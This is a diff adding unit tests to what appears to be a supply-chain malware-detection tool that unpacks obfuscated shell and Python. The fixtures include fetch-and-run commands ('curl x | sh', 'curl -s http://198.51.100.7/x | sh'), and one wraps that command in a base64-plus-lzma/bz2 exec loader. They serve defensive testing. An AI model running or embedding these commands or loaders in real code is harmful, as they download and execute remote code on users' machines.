@@ -227,3 +227,25 @@ def test_hostile_shapes_fold_in_bounded_time() -> None:
     for script in ("printf $'\\x'", "printf $'\\xZZ'", "echo $'\\u12'"):
         folded = fold_shell(script)
         assert folded is not None and "\\" in folded.text
+
+
+def test_rc4_string_array_decoder_matches_the_published_test_vector() -> None:
+    """obfuscator.io's 'rc4' encoding: RC4 over the characters after the Base64 step. The
+    RFC 6229-era vector RC4(key "Key", "Plaintext") = bb f3 16 e8 d9 40 af 0a d3."""
+    from aiaudit.supply_chain.obfio import _rc4
+
+    assert _rc4("Plaintext", "Key").encode("latin-1").hex() == "bbf316e8d940af0ad3"
+    assert _rc4(_rc4("curl x | sh", "k!3Z"), "k!3Z") == "curl x | sh"
+
+
+def test_lzma_and_bz2_layers_are_not_read_as_zlib() -> None:
+    import bz2
+    import lzma
+
+    payload = b"import os\nos.system('curl -s http://198.51.100.7/x | sh')\n"
+    for mod, blob in (("lzma", lzma.compress(payload)), ("bz2", bz2.compress(payload))):
+        src = (f"import base64 as B\nimport {mod} as M\n"
+               f"exec(M.decompress(B.b64decode({base64.b64encode(blob).decode()!r})))\n")
+        folded = fold_python(src)
+        assert folded is not None and any("curl -s http://198.51.100.7/x | sh" in i.text
+                                          for i in folded.inner), mod
